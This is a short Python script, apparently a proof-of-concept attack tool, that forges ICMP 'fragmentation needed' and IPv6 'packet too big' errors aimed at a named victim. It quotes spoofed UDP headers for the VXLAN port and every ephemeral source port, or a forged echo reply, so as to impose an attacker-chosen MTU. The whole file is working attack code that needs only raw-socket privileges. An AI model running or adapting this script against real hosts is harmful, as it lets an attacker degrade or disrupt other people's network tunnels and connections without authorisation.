"""Sends forged ICMP errors, as anyone on the Internet can: for each source port, or for an echo reply.

forge-icmp.py VICTIM PEER MTU KIND [QUOTE]

KIND is `ports` (an error for each source port from 49152 to 65535, and one for the VXLAN port), or `echo`.
QUOTE is what follows the quoted UDP header, in hexadecimal.
"""
import socket
import struct
import sys

victim, peer, mtu, kind = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
quote = bytes.fromhex(sys.argv[5]) if len(sys.argv) > 5 else b""
six = ":" in victim


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def error(protocol, upper):
    length = 1500
    if six:
        ends = socket.inet_pton(socket.AF_INET6, victim) + socket.inet_pton(socket.AF_INET6, peer)
        quoted = struct.pack("!IHBB", 0x60000000, length, protocol, 64) + ends + upper
        return struct.pack("!BBHI", 2, 0, 0, mtu) + quoted  # the kernel fills the checksum
    ends = socket.inet_aton(victim) + socket.inet_aton(peer)
    quoted = struct.pack("!BBHHHBBH", 0x45, 0, length, 1, 0x4000, 64, protocol, 0) + ends + upper
    message = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + quoted
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


if six:
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
else:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
if kind == "echo":
    errors = [error(58 if six else 1, struct.pack("!BBHHH", 129 if six else 0, 0, 0, 1, 1))]
else:
    ports = [*range(49152, 65536), 4789]
    errors = [error(17, struct.pack("!HHHH", port, 4789, 1480, 0) + quote) for port in ports]
for one in errors:
    raw.sendto(one, (victim, 0))
